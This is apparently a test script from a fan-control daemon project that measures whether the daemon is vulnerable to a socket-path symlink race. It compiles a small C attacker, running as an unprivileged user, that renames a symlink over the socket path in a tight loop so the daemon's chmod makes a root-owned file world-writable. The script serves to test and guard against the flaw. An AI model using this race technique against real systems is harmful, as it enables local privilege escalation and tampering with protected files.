#!/usr/bin/env bash
# The attack on a daemon that binds its socket and then changes the mode of
# the path: another user who may write in the socket's directory (here: made
# it first, as anyone could make /tmp/zephrane) swaps the new socket for a
# symlink to a root-owned 0600 file between the two calls, and the daemon's
# chmod makes that file 0666. Runs the daemon that many times against an
# attacker (uid 65534) renaming a symlink over the path in a tight loop, and
# counts the trials in which the file's mode changed and the ones in which
# the daemon served.
#
# Usage: bench/helper/socket_swap_trials.sh [build dir] [trials]    (as root)
set -euo pipefail

build=$(cd "${1:-build}" && pwd)
trials=${2:-10}
sim="$build/sim/zephrane-sim"
daemon="$build/ZephraneHelper/com.zephrane.Fanwarden"
name=com.zephrane.Fanwarden.xpc

work=$(mktemp -d -t zfw-swap-XXXXXX)
pids=()
cleanup() {
    exec 2>/dev/null
    for pid in "${pids[@]}"; do kill -KILL "$pid" || true; done
    wait || true
    rm -rf "$work"
}
trap cleanup EXIT

# The attacker: keeps a fresh symlink to the victim ready and renames it over
# the socket's path whenever something else is there.
cat >"$work/attacker.c" <<'C'
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
int main(int argc, char **argv) {
    char ready[4096];
    snprintf(ready, sizeof ready, "%s.ready", argv[2]);
    for (;;) {
        struct stat st;
        if (lstat(argv[2], &st) == 0 && !S_ISLNK(st.st_mode)) {
            unlink(ready);
            if (symlink(argv[1], ready) == 0) rename(ready, argv[2]);
        }
    }
}
C
cc -O2 -o "$work/attacker" "$work/attacker.c"
chmod 0755 "$work"

mkdir -m 0755 "$work/sim"
"$sim" --dir "$work/sim" --machine two-fan-laptop --allow-writers 0 >"$work/sim.log" 2>&1 &
pids+=($!)
for _ in $(seq 200); do [ -S "$work/sim/AppleSMC.sock" ] && break; sleep 0.05; done

mkdir -m 0700 "$work/private"
changed=0
served=0
for trial in $(seq "$trials"); do
    victim="$work/private/victim-$trial"
    echo "root's" >"$victim"
    chmod 0600 "$victim"
    dir="$work/xpc-$trial"
    mkdir -m 0755 "$dir"
    chown 65534:65534 "$dir"  # the attacker made it first
    setpriv --reuid=65534 --regid=65534 --clear-groups "$work/attacker" "$victim" "$dir/$name" &
    attacker=$!
    pids+=("$attacker")
    ZEPHRANE_SIM_DIR="$work/sim" ZEPHRANE_XPC_DIR="$dir" "$daemon" >"$work/daemon-$trial.log" 2>&1 &
    pid=$!
    pids+=("$pid")
    for _ in $(seq 100); do
        grep -q 'helper .* started\|cannot listen' "$work/daemon-$trial.log" 2>/dev/null && break
        kill -0 "$pid" 2>/dev/null || break
        sleep 0.05
    done
    grep -q 'helper .* started' "$work/daemon-$trial.log" && served=$((served + 1))
    kill -KILL "$attacker" "$pid" 2>/dev/null || true
    wait "$attacker" "$pid" 2>/dev/null || true
    mode=$(stat -c %a "$victim")
    [ "$mode" != 600 ] && changed=$((changed + 1))
    echo "trial $trial: victim mode $mode; daemon: $(grep -o 'started\|cannot listen for connections: .*' "$work/daemon-$trial.log" | head -1)"
done
echo "victim's mode changed in $changed of $trials trials; the daemon served in $served"
